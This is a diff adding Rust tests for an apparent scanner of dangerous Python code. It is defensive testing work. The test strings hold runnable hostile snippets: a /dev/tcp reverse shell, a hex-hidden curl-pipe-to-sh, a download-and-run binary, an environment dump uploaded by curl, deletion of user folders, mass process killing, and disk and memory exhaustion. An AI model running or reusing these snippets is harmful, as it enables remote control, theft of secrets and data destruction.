@@ -1157,3 +1157,86 @@ fn xor_with_a_cycled_key_and_sliced_alphabets_decode() {
         "import string\nA = string.ascii_letters + string.digits\nT = str.maketrans(A[3:] + A[:3], A)\nexec('lpsruw rv; rv.vBvwhp(\"qf -h /elq/vk 4.5.6.7 c\")'.translate(T))\n",
     );
 }
+
+#[test]
+fn endless_generators_feed_endless_loops() {
+    // A generator that yields big buffers for ever, kept by `map(list.append, ...)`.
+    fires(
+        "CRD112",
+        "import itertools\ndef blocks(size):\n    for _ in itertools.count():\n        yield bytearray(size)\nhoard = []\nfor _ in map(hoard.append, blocks(64 * 1024 * 1024)):\n    pass\n",
+    );
+    // A generator that stops is a bounded batch.
+    silent(
+        "CRD112",
+        "def blocks(size):\n    for _ in range(4):\n        yield bytearray(size)\nhoard = []\nfor b in blocks(64 * 1024 * 1024):\n    hoard.append(b)\n",
+    );
+}
+
+#[test]
+fn a_retry_sleep_does_not_pace_a_disk_filler() {
+    // The sleep runs only when a write failed; every other pass writes 256 MiB more.
+    fires(
+        "CRD112",
+        "import os, time\nBLOCK = os.urandom(1 << 20)\nn = 0\nwhile True:\n    try:\n        with open(f'chunk-{n}.bin', 'wb') as fh:\n            for _ in range(256):\n                fh.write(BLOCK)\n    except OSError:\n        time.sleep(1)\n        continue\n    n += 1\n",
+    );
+    // Pacing every pass bounds it.
+    silent(
+        "CRD112",
+        "import os, time\nBLOCK = os.urandom(1 << 20)\nn = 0\nwhile True:\n    with open(f'chunk-{n}.bin', 'wb') as fh:\n        fh.write(BLOCK)\n    time.sleep(60)\n    n += 1\n",
+    );
+}
+
+#[test]
+fn a_download_renamed_into_place_then_run() {
+    fires(
+        "CRD102",
+        "import os, subprocess, urllib.request\nfrom pathlib import Path\ndest = Path.home() / '.local' / 'bin' / 'agent'\ntmp = dest.with_suffix('.new')\ntmp.write_bytes(urllib.request.urlopen('http://203.0.113.9/agent').read())\nos.replace(tmp, dest)\nsubprocess.Popen([str(dest), '--daemon'])\n",
+    );
+}
+
+#[test]
+fn user_folders_removed_whole_and_found_through_yield_from() {
+    fires(
+        "CRD104",
+        "import shutil\nfrom pathlib import Path\nfor name in ['Documents', 'Desktop']:\n    shutil.rmtree(Path.home() / name, ignore_errors=True)\n",
+    );
+    fires(
+        "CRD104",
+        "from pathlib import Path\ndef found(home):\n    for r in ['Documents', 'Pictures']:\n        yield from (p for p in (home / r).rglob('*') if p.is_file())\nfor p in found(Path.home()):\n    p.unlink()\n",
+    );
+}
+
+#[test]
+fn the_environment_saved_to_a_file_and_uploaded() {
+    fires(
+        "CRD109",
+        "import json, os, subprocess, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.json', delete=False) as fh:\n    json.dump({'env': {k: v for k, v in os.environ.items()}}, fh)\nsubprocess.run(['curl', '-sS', '--data-binary', f'@{fh.name}', 'https://hooks.example.net/ci'])\n",
+    );
+}
+
+#[test]
+fn templates_and_call_dunders_reach_the_shell() {
+    // `string.Template` substitution folds like `str.format`.
+    fires(
+        "CRD101",
+        "import string, subprocess\ncmd = string.Template('$i -i >& /dev/tcp/$host/$port 0>&1').substitute(i='bash', host='203.0.113.7', port=9001)\nsubprocess.run(['bash', '-c', cmd])\n",
+    );
+    // `methodcaller('__call__', cmd)` applied to `os.system` calls it.
+    fires(
+        "CRD103",
+        "import operator, os\ncall = operator.methodcaller('__call__', bytes.fromhex('6375726c20687474703a2f2f782e6578616d706c652e6e65742f73207c207368').decode())\ncall(getattr(os, 'sys' + 'tem'))\n",
+    );
+}
+
+#[test]
+fn a_helper_that_signals_found_processes_kills_others() {
+    // The helper alone says nothing; the call with a found pid does.
+    fires(
+        "CRD107",
+        "import os, psutil, signal\ndef stop(pid):\n    os.kill(pid, signal.SIGKILL)\nfor proc in psutil.process_iter(['name']):\n    if proc.info['name'] == 'sshd':\n        stop(proc.pid)\n",
+    );
+    fires(
+        "CRD107",
+        "import os\nfor pid in range(2, 40000):\n    os.kill(pid, 9)\n",
+    );
+}
